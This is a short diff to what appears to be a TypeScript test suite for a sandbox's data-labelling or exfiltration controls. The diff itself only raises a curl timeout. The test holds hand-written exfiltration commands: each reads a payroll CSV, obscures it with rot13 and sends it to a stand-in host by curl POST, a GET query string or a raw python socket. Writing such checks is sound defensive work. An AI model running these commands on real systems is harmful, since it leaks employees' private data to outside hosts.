@@ -61,13 +61,13 @@ export async function labelled(check: Checks, made: (instance: Instance) => void
     if (first.code !== 0 || second.code !== 0) throw new Error(`the instance does not start: ${first.out}${first.err}${second.out}${second.err}`);
     const send = (sandbox: string, script: string) => instance.cli([sandbox, 'exec', '--', '/bin/sh', '-c', script], { timeoutMs: 180_000 });
     const read = 'cat /workspace/hr/payroll.csv | tr a-z n-za-m';
-    const post = (host: string): string => `${read} | curl -sS -m 20 --data-binary @- http://${host}:${web.port}/notes`;
+    const post = (host: string): string => `${read} | curl -sS -m 60 --data-binary @- http://${host}:${web.port}/notes`;
 
     const control = await send('unlabelled', post('public.example'));
     check.that('control: without the label the encoded file arrives', web.heard().includes(encoded), control.out + control.err);
     const before = web.heard().length;
     const ways: readonly (readonly [string, string])[] = [
-      ['in the body of a POST', post('public.example').replace('-m 20', '-m 6')],
+      ['in the body of a POST', post('public.example').replace('-m 60', '-m 6')],
       ['in the query of a GET', `curl -sS -m 6 "http://public.example:${web.port}/?q=$(${read})"`],
       ['through a connection that is not read', `${read} | timeout 6 python3 -c 'import socket,sys; s=socket.create_connection(("tunnel.example",${tunnel.port}),5); s.sendall(sys.stdin.buffer.read()); s.settimeout(4); print(s.recv(10))'`],
     ];
